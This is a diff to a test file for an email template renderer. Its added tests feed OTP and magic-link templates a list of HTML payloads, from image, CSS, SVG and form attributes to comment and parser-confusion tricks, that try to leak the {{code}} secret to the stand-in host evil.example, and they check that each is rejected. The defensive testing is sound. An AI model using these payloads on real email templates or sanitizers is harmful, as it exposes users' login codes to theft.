@@ -1,6 +1,7 @@
 import { describe, expect, test } from "vitest";
 import type { TemplateText } from "./defaults.ts";
 import { shippedTemplates } from "./defaults.ts";
+import type { TemplateKey } from "./templates.catalogue.ts";
 import { compileTemplate, type MessageUser, renderTemplate, ttlText, valuesOf } from "./templates.render.ts";
 
 const ada: MessageUser = {
@@ -9,7 +10,7 @@ const ada: MessageUser = {
   email: "ada@example.com",
   attributes: { firstName: "Ada", lastName: "Lovelace", team: ["north", "south"] },
 };
-const faultsOf = (template: Partial<TemplateText>, key = "otp-email" as const) => {
+const faultsOf = (template: Partial<TemplateText>, key: TemplateKey = "otp-email") => {
   const faults: string[] = [];
   compileTemplate(key, { subject: "s", body: "b", textBody: null, html: false, ...template }, (field, message) =>
     faults.push(`${field}: ${message}`),
@@ -118,10 +119,10 @@ describe("putting values in", () => {
 });
 
 describe("in HTML, a placeholder may stand", () => {
-  test("in the text, in a comment and in a quoted attribute", () => {
-    const body = `<!doctype html><title>{{realm}}</title><!-- {{code}} --><p title='{{realm}}' lang = "nl" hidden>{{code}} < {{code}}</p>`;
+  test("in the text, in the title and in a quoted attribute that is text", () => {
+    const body = `<!doctype html><title>{{realm}}</title><!-- - --><p title='{{realm}}' lang = "nl" hidden>{{code}} < {{code}}</p>`;
     expect(html(body, { realm: "A&'B", code: "-->" })).toBe(
-      `<!doctype html><title>A&amp;&#39;B</title><!-- --&gt; --><p title='A&amp;&#39;B' lang = "nl" hidden>--&gt; < --&gt;</p>`,
+      `<!doctype html><title>A&amp;&#39;B</title><!-- - --><p title='A&amp;&#39;B' lang = "nl" hidden>--&gt; < --&gt;</p>`,
     );
   });
 
@@ -140,7 +141,9 @@ describe("in HTML, a placeholder may stand", () => {
     ['<a href="java{{user}}">', "only {{link}} may"],
     ['<a href="https://{{user}}">', "only {{link}} may"],
     ['<a href="https://example.com{{user}}">', "only {{link}} may"],
-    ['<img src="{{user.picture}}">', "only {{link}} may"],
+    ['<img src="{{user.picture}}">', "attribute src of <img>"],
+    ["<!-- {{code}} -->", "in a comment"],
+    ["<noscript>{{code}}</noscript>", "inside <noscript>"],
     ['<meta http-equiv="refresh" content="0;url={{user}}">', "attribute content"],
   ])("but not in %s", (body, words) => {
     expect(faultsOf({ html: true, body })).toEqual([expect.stringContaining(words)]);
@@ -152,6 +155,48 @@ describe("in HTML, a placeholder may stand", () => {
       '<a href="https://example.com/u?name=a%26b%3Dc%2F..%2F%3F%23%22%3E%3Cx&x=1">x</a>',
     );
     expect(html('<a href="mailto:{{user.email}}">x</a>')).toBe('<a href="mailto:ada%40example.com">x</a>');
+  });
+});
+
+describe("what a mail program loads tells its server nothing", () => {
+  const LEAK = "https://evil.example/?{{code}}";
+  test.each([
+    `<img src="${LEAK}">`,
+    '<img src="{{link}}">',
+    `<img srcset="${LEAK} 2x">`,
+    `<img alt="x" lowsrc='${LEAK}'>`,
+    `<table background="${LEAK}">`,
+    `<td style="background:url(${LEAK})">`,
+    `<style>p{background:url(${LEAK})}</style>`,
+    `<link rel="stylesheet" href="${LEAK}">`,
+    `<base href="${LEAK}">`,
+    `<video poster="${LEAK}">`,
+    `<object data="${LEAK}">`,
+    `<param name="movie" value="${LEAK}">`,
+    `<v:fill src="${LEAK}">`,
+    `<svg><image xlink:href="${LEAK}"/></svg>`,
+    `<svg><image href="${LEAK}"/></svg>`,
+    `<svg><rect fill="url(${LEAK})"/></svg>`,
+    `<form action="${LEAK}">`,
+    `<!--[if mso]><img src="${LEAK}"><![endif]-->`,
+    // Read in another way, each of these is an image.
+    `<!--><img src="https://evil.example/-->{{code}}">`,
+    `<!---><img src="https://evil.example/-->{{code}}">`,
+    `<!-- --!><img src="https://evil.example/-->{{code}}">`,
+    `<title><!--</title><img src="https://evil.example/-->{{code}}">`,
+    `<title><p title="</title><img src='https://evil.example/">{{code}}'>`,
+    `<svg><title><img src="https://evil.example/</title>{{code}}">`,
+    `<svg><style><img src="https://evil.example/</style>{{code}}">`,
+    `<noscript><p title="</noscript><img src='https://evil.example/">{{code}}'>`,
+    `<svg><![CDATA[><!--]]><img src="https://evil.example/-->{{code}}">`,
+    `<script><!--<script></script><p title="</script><img src='https://evil.example/">{{code}}'>`,
+  ])("%s", (body) => {
+    const key = body.includes("{{link}}") ? "magic-link-email" : "otp-email";
+    expect(faultsOf({ html: true, body }, key)).toEqual([expect.stringMatching(/^body: {{(code|link)}} stands/)]);
+    // Saved by a release that allowed it, it leaves without the secret.
+    const compiled = compileTemplate(key, { subject: "s", html: true, textBody: "t", body }, () => {});
+    const rendered = renderTemplate(compiled, () => "918273");
+    expect(rendered.html).not.toContain("918273");
   });
 });
 
